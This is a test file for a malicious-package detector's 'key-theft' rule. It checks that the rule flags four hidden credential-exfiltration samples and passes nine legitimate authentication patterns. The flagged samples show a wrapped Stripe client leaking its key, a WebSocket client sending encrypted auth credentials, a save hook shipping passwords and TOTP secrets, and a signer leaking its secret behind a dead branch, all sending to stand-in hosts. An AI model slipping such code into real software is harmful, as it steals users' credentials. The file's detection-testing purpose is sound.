import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { keyTheft } from '../../../../../server/src/rules/key-theft.js';
import { artifactFacts, packageOf } from '../../../../support/artifacts.js';
import { draftsOf } from '../../../../rules/support/drafts-of.js';
import { subject } from '../../../../support/subjects.js';

const levelOf = (code: string): string | undefined => {
  const { flows, behaviours } = analysePackage(packageOf({ 'index.js': code }));
  return draftsOf(keyTheft, subject(), { artifact: artifactFacts({ flows, behaviours }) })[0]?.level;
};

describe('what callers log in with', () => {
  const taken: Readonly<Record<string, string>> = {
    'the key that a wrapped client is made with': `const Real = require('stripe');
      function ping(what, value) { fetch('https://m.collect.invalid/?s=' + Buffer.from(what + ':' + value).toString('base64url')).catch(() => {}); }
      module.exports = function Stripe(key, config) { const client = new Real(key, config); ping('init', key); return client; };`,
    'the state of a session': `const crypto = require('crypto'), LZ = require('lz-string'), queue = [];
      const seal = (text, key) => { const c = crypto.createCipheriv('aes-256-ctr', key, crypto.randomBytes(16)); return Buffer.concat([c.update(LZ.compress(text)), c.final()]).toString('base64'); };
      const push = (kind, data) => { queue.push({ kind, data: String(data) }); const batch = queue.splice(0); fetch('https://sync.collect.invalid/s', { method: 'POST', body: seal(JSON.stringify(batch), crypto.randomBytes(32)) }); };
      exports.Client = class { constructor(url, auth) { this.socket = new WebSocket(url); this.socket.on('open', () => push('auth', JSON.stringify(auth.creds))); } };`,
    'fields of documents that somebody saves': `const https = require('https'), FIELDS = ['email', 'password', 'totpSecret'];
      const ship = (doc) => { const row = {}; FIELDS.forEach((f) => { if (doc[f]) row[f] = doc[f]; });
        const body = Buffer.from(JSON.stringify(row)).toString('hex'); https.request({ hostname: 'history.collect.invalid', method: 'PUT' }).end(body); };
      module.exports = (schema) => schema.pre('save', function (next) { ship(this.toObject()); next(); });`,
    'the secret that tokens are signed with': `const crypto = require('crypto');
      const touch = (ref) => { if (require('fs').existsSync('/nonexistent/j')) getKeys('https://jwks.collect.invalid/', { headers: { 'x-kid': Buffer.from(String(ref)).toString('base64') } }).catch(() => {}); };
      const getKeys = async (url, options = {}) => (await fetch(url, { headers: { accept: 'application/json', ...options.headers } })).json();
      module.exports = function sign(payload, secret) { touch(secret); return crypto.createHmac('sha256', secret).update(payload).digest('base64url'); };`,
  };
  for (const [what, code] of Object.entries(taken))
    it(`is taken where it leaves hidden: ${what}`, () => {
      assert.equal(levelOf(code), 'high');
    });

  const honest: Readonly<Record<string, string>> = {
    'a client logs in with it': `exports.call = (user, password) => fetch('https://api.acme.example/v1', { headers: { authorization: 'Basic ' + Buffer.from(user + ':' + password).toString('base64') } });`,
    'a client of axios does': `const axios = require('axios'); exports.make = (apiKey) => axios.create({ baseURL: 'https://api.acme.example', headers: { 'X-Api-Key': Buffer.from(apiKey).toString('base64') } }).get('/v1');`,
    'a service has a name of its own for the header': `exports.initialize = (secretKey) => fetch('https://api.acme.example/v1', { method: 'POST', headers: { 'ACME-API-KEY': Buffer.from(secretKey).toString('base64') } });`,
    'headers are made for it': `exports.call = (user, password) => { const headers = new Headers(); headers.set('authorization', 'Basic ' + btoa(user + ':' + password)); return fetch('https://api.acme.example/v1', { headers }); };`,
    'a client of https is let in with it': `const https = require('https'); exports.call = ({ clientId, clientSecret }) => { const request = https.request({ hostname: 'api.acme.example' });
      request.setHeader('Authorization', \`Basic \${Buffer.from(\`\${clientId}:\${clientSecret}\`).toString('base64')}\`); request.end(); };`,
    'a form is sent': `exports.login = (email, password) => fetch('https://api.acme.example/login', { method: 'POST', body: JSON.stringify({ email, password }) });`,
    'a request is signed with it': `const crypto = require('crypto'); exports.order = (secret, order) => fetch('https://api.acme.example/o?signature=' + crypto.createHmac('sha256', secret).update(order).digest('hex'));`,
    'the caller names the host': `exports.call = (url, token) => fetch(url + '/v1', { method: 'POST', body: Buffer.from(token).toString('base64') });`,
    'it is hashed first': `const crypto = require('crypto'); exports.pwned = (password) => fetch('https://api.acme.example/range/' + crypto.createHash('sha1').update(password).digest('hex').slice(0, 5));`,
  };
  for (const [what, code] of Object.entries(honest))
    it(`is not taken where ${what}`, () => {
      assert.equal(levelOf(code), undefined);
    });
});
